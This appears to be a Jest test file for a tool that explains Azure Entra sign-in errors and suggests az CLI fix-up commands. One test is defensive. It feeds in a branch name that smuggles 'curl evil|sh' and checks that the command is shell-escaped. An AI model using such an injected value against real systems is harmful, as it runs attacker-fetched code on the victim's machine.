import type { Identity } from '../../src/azure/identity/choice.ts';
import { signInError } from '../../src/azure/identity/sign-in-error.ts';
import { explain } from '../../src/errors.ts';

const client = '33333333-3333-4333-8333-333333333333';
const tenant = '22222222-2222-4222-8222-222222222222';
const of = (kind: 'github' | 'secret' | 'certificate' | 'workload'): Identity => ({
  kind,
  clientId: client,
  tenantId: tenant,
});
const scope = 'https://management.azure.com/.default';
const aks = '6dae42f8-4368-4678-94ff-3960e28e3630/.default';
const github = {
  iss: 'https://token.actions.githubusercontent.com',
  sub: 'repo:octo/shop:ref:refs/heads/main',
  aud: 'api://AzureADTokenExchange',
};
const correlation = 'c0ffee00-1111-4222-8333-444444444444';
const trace = '7ace0000-1111-4222-8333-444444444444';

/** As MSAL puts what Entra answers into its error. */
function said(code: number, words = 'No.'): string {
  const description = `AADSTS${String(code)}: ${words} Trace ID: ${trace} Correlation ID: ${correlation} Timestamp: 2026-11-23 16:00:00Z`;
  return `invalid_client: Error(s): ${String(code)} - Timestamp: 2026-11-23 16:00:00Z - Description: ${description} - Correlation ID: ${correlation} - Trace ID: ${trace}`;
}

function explained(code: number, identity = of('github'), asked = scope): string {
  const sent = identity.kind === 'github' || identity.kind === 'workload' ? github : {};
  return explain(signInError(said(code), { identity, scope: asked, sent }));
}

test.each([70021, 70025, 700211, 700212, 700213, 7002138])(
  'AADSTS%i: what was sent, and the command that lets it in',
  (code) => {
    const text = explained(code);
    expect(text).toContain(
      `client ${client} of tenant ${tenant} by GitHub OIDC: AADSTS${String(code)}: No. (trace id ${trace})`,
    );
    expect(text).toContain(`subject ${github.sub}, issuer ${github.iss}, audience ${github.aud}`);
    expect(text).toContain(
      `az ad app federated-credential create --id ${client} --parameters '{"name":"github","issuer":"${github.iss}","subject":"${github.sub}","audiences":["${github.aud}"]}'`,
    );
    expect(text).toContain(`--issuer '${github.iss}' --subject '${github.sub}' --audiences '${github.aud}'`);
    expect(text).toContain(`Azure correlation id: ${correlation}`);
    expect(text.includes('Correct environment or audience')).toBe(code === 700212);
  },
);

test('a branch cannot be named to run something when the command is pasted', () => {
  const sent = { ...github, sub: "repo:octo/shop:ref:refs/heads/x';curl evil|sh;'" };
  const text = explain(signInError(said(700213), { identity: of('github'), scope, sent }));
  expect(text).toContain(String.raw`--subject 'repo:octo/shop:ref:refs/heads/x'\'';curl evil|sh;'\'''`);
});

const cli: Identity = { kind: 'cli' };

test.each<[number, Identity, string, RegExp]>([
  [700024, of('github'), scope, /clock of the runner/],
  [700024, of('workload'), scope, /AZURE_FEDERATED_TOKEN_FILE/],
  [700024, cli, scope, /azure\/login[^]*give client-id and tenant-id/],
  [7000218, of('secret'), scope, /AZURE_CLIENT_SECRET/],
  [7000215, of('secret'), scope, /value of the secret, not to its id/],
  [7000222, of('secret'), scope, new RegExp(`another secret: az ad app credential reset --id ${client} --append —`)],
  [700027, of('certificate'), scope, /--append --cert @certificate\.pem/],
  [700016, of('github'), scope, /client-id and tenant-id[^]*Sent was subject repo:/],
  [90002, of('github'), scope, /tenant-id, or environment/],
  [90033, of('secret'), scope, /run this again/],
  [900382, of('github'), scope, /tenant-id, or environment/],
  [7000112, of('secret'), scope, /az ad sp update --id 3333.* accountEnabled=true/],
  [53003, of('github'), scope, /Conditional Access policy[^]*correlation id/],
  [500011, of('github'), scope, /does not know https:\/\/management/],
  [500011, of('github'), aks, /az ad sp create --id 6dae42f8/],
  [500014, of('github'), aks, /disabled it/],
  [50076, cli, scope, /second factor[^]*az login/],
  [50079, cli, scope, /second factor/],
  [700082, cli, scope, /over: az login again/],
  [70043, cli, scope, /over: az login again/],
  [90094, of('secret'), scope, /login\.microsoftonline\.com\/error\?code=90094/],
])('AADSTS%i by %j for %s', (code, identity, asked, words) => {
  expect(explained(code, identity, asked)).toMatch(words);
  const error = signInError(said(code), { identity, scope: asked, sent: {} });
  expect(error).toMatchObject({ reason: 'auth', code: `AADSTS${String(code)}`, correlationId: correlation });
});

test('what is not of Entra is about the way there', () => {
  const text = (words: string, next?: string): string =>
    explain(signInError(words, { identity: of('secret'), scope, sent: {} }, { reason: 'auth', next }));
  expect(text('getaddrinfo ENOTFOUND login.example')).toMatch(/ENOTFOUND[^]*Next: .*network.*HTTPS_PROXY/);
  expect(text('self-signed certificate', 'Trust it.')).toMatch(/Next: Trust it\.$/);
  const ofCli = explain(signInError('the Azure CLI answered no token', { identity: cli, scope, sent: {} }));
  expect(ofCli).toMatch(/Next: See what az account get-access-token .* says/);
  expect(text('endpoints_resolution_error: See https://aka.ms/x')).toMatch(/Next: Correct tenant-id/);
});
